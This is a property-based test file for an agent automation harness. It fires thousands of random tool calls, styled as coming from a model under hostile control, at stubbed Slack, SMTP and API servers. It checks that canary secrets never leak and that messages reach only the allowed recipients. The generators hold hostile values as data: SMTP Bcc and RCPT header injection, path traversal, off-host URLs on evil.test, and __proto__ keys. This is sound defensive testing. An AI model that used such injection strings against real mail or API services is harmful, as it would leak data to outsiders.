import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS } from '../../src/domain/automation.ts';
import { call, world } from '../agent/session-world.ts';
import { smtpStub } from '../support/smtp-server.ts';
import { stubServer } from '../support/stub-server.ts';
import { slackStub } from '../tools/message/slack-stub.ts';

const CALLS_PER_STEP = 30;
const STEPS = 50;
const SECRETS = { SLACK: 'CANARY-slack-1a2b3c4d', SMTP: 'CANARY-smtp-9f8e7d6c', API: 'CANARY-api-5e5e6f6f' } as const;
const LISTED = ['ada@acme.test', 'C0REPORTS', '#reports'];

const word = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.string({ unit: 'binary', maxLength: 8 }),
  fc.constantFrom(...Object.values(SECRETS), '__proto__', 'env:SMTP', '\r\nBcc: eve@evil.test', '<!channel>', '{{x}}'),
);
const connection = (usual: string) =>
  fc.oneof({ weight: 6, arbitrary: fc.constant(usual) }, fc.constantFrom('team', 'mail', 'api', 'hidden', '__proto__'));
const words = fc.oneof({ weight: 4, arbitrary: fc.string({ minLength: 1, maxLength: 30 }) }, word);
const channel = fc.oneof(
  fc.constantFrom(
    'C0REPORTS',
    '#reports',
    'c0reports',
    'C0SECRET',
    '#reports ',
    '#reports,#secret',
    '*',
    '@ada',
    'D0EVE',
  ),
  word,
);
const address = fc.oneof(
  fc.constantFrom(
    'ada@acme.test',
    'ADA@acme.test',
    'bob@team.test',
    'eve@evil.test',
    'eve@evil.test@team.test',
    'eve@evil.team.test',
    'ada@acme.test,eve@evil.test',
    'ada@acme.test\r\nRCPT TO:<eve@evil.test>',
    'ada@acme.test> <eve@evil.test',
    'eve%evil.test@team.test',
    '*@team.test',
  ),
  word,
);
const slackPost = fc.record(
  {
    connection: connection('team'),
    text: words,
    channel,
    thread_ts: fc.constantFrom('1690000000.000200', '1\n.2', '__proto__'),
    send_to_current_thread: fc.constantFrom(true, false, false),
  },
  { requiredKeys: ['connection', 'text'] },
);
const emailSend = fc.record(
  { connection: connection('mail'), text: words, subject: words, to: fc.array(address, { maxLength: 2 }) },
  { requiredKeys: ['connection', 'text', 'subject', 'to'] },
);
const exporting = fc.record(
  {
    connection: connection('api'),
    endpoint: fc.oneof(fc.constantFrom('/views/1', '/views/../../admin', '//evil.test/x', 'http://evil.test'), word),
    format: fc.constantFrom('csv', 'image', 'exe'),
    method: fc.constantFrom('GET', 'POST', 'DELETE', 'get'),
    params: fc.dictionary(word, word, { maxKeys: 1 }),
    data: word,
  },
  { requiredKeys: ['connection', 'endpoint', 'format'] },
);
const evil = fc.oneof(
  slackPost.map((input) => ({ name: 'slack_post', input })),
  emailSend.map((input) => ({ name: 'email_send', input })),
  emailSend.map((input) => ({ name: 'email_send', input: { ...input, bcc: 'eve@evil.test' } })),
  exporting.map((input) => ({ name: 'export', input })),
);

async function runEvil(writeEnabled: 'may write' | 'read-only') {
  const smtp = await smtpStub();
  const slack = await slackStub();
  const api = await stubServer(() => ({ headers: { 'content-type': 'application/json' }, body: '[{"a":1}]' }));
  const calls = fc.sample(evil, { numRuns: CALLS_PER_STEP * STEPS, seed: 20_260_105 });
  const body = JSON.stringify({ slack_channel: 'C0SECRET', thread_ts: '1690000000.000200' });
  const steps = Array.from({ length: STEPS }, (_, step) => ({
    toolCalls: calls
      .slice(step * CALLS_PER_STEP, (step + 1) * CALLS_PER_STEP)
      .map(({ name, input }, index) => call(name, input, `${step}-${index}`)),
  }));
  const { run } = world({
    connections: [
      {
        name: 'team',
        protocol: 'slack',
        baseUrl: `${slack.server.url}/api`,
        writeAuth: { type: 'bearer', token: 'env:SLACK' },
        recipients: ['C0REPORTS', '#reports'],
      },
      {
        name: 'mail',
        protocol: 'smtp',
        spec: { host: '127.0.0.1', port: smtp.port, from: 'reports@acme.test' },
        writeAuth: { type: 'basic', username: 'bot', password: 'env:SMTP' },
        recipients: ['ada@acme.test', '*@team.test'],
      },
      { name: 'api', baseUrl: `${api.url}/base`, auth: { type: 'bearer', token: 'env:API' } },
      { name: 'hidden', baseUrl: `${api.url}/hidden` },
    ],
    env: SECRETS,
    event: { source: 'webhook', body },
    automation: {
      writeEnabled: writeEnabled === 'may write',
      connections: ['team', 'mail', 'api'],
      limits: { ...DEFAULT_LIMITS, maxSteps: 1_000, maxRequests: 100_000, maxBytesOut: 1_000_000_000 },
    },
    script: [...steps, { text: 'done' }],
  });
  const { figures } = await run();
  return { smtp, slack, api, figures };
}

describe('a model under somebody else\u2019s control', () => {
  it('sends nothing at all in a read-only run, and reads only below the base', { timeout: 120_000 }, async () => {
    const { smtp, slack, api, figures } = await runEvil('read-only');
    expect(figures.toolCalls).toBe(CALLS_PER_STEP * STEPS);
    expect([smtp.commands, slack.server.requests]).toEqual([[], []]);
    expect(api.requests.length).toBeGreaterThan(0);
    for (const { method, url } of api.requests) expect(`${method} ${url}`).toMatch(/^GET \/base\//);
    for (const { url, body } of api.requests) expect(`${decodeURIComponent(url)}${body}`).not.toContain('CANARY');
  });

  it('writes to nobody whom Git does not list where it may write', { timeout: 120_000 }, async () => {
    const { smtp, slack, api, figures } = await runEvil('may write');
    const to = smtp.mails.flatMap((mail) => mail.to.map((one) => one.toLowerCase()));
    const channels = slack.messages.map(({ channel: name }) => String(name).toUpperCase());
    expect(to.length).toBeGreaterThan(0);
    expect(channels.length).toBeGreaterThan(0);
    for (const one of to) expect(one).toMatch(/^(ada@acme\.test|[^@]+@team\.test)$/);
    expect(LISTED.map((one) => one.toUpperCase())).toEqual(expect.arrayContaining([...new Set(channels)]));
    for (const { source } of smtp.mails) expect(source).not.toMatch(/^Bcc:|CANARY/im);
    expect(JSON.stringify(slack.messages)).not.toContain('CANARY');
    for (const { method } of api.requests) expect(method).toBe('GET');
    console.info(
      `evil messages: ${figures.toolCalls} calls, ${figures.refusals} refused, ${smtp.mails.length} mails and ${slack.messages.length} posts, all to whom Git lists`,
    );
  });
});
